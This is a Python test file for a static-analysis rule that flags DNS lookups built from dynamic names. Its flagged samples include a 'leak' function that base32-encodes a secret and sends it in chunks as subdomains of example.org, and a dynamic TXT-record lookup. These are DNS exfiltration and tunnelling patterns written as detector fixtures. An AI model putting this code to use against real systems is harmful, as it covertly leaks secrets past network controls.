import base64
import socket

import dns.resolver


def leak(secret):
    enc = base64.b32encode(secret.encode()).decode().rstrip("=").lower()
    for i in range(0, len(enc), 50):
        # ruleid: py-dns-lookup-dynamic-name
        socket.gethostbyname(f"{enc[i:i+50]}.{i}.v.example.org")


def txt(label):
    # ruleid: py-dns-lookup-dynamic-name
    return dns.resolver.resolve(label + ".t.example.net", "TXT")


def fixed():
    # ok: py-dns-lookup-dynamic-name
    return socket.gethostbyname("db.internal.example.com")


def configured(host):
    # ok: py-dns-lookup-dynamic-name
    return socket.gethostbyname(host)
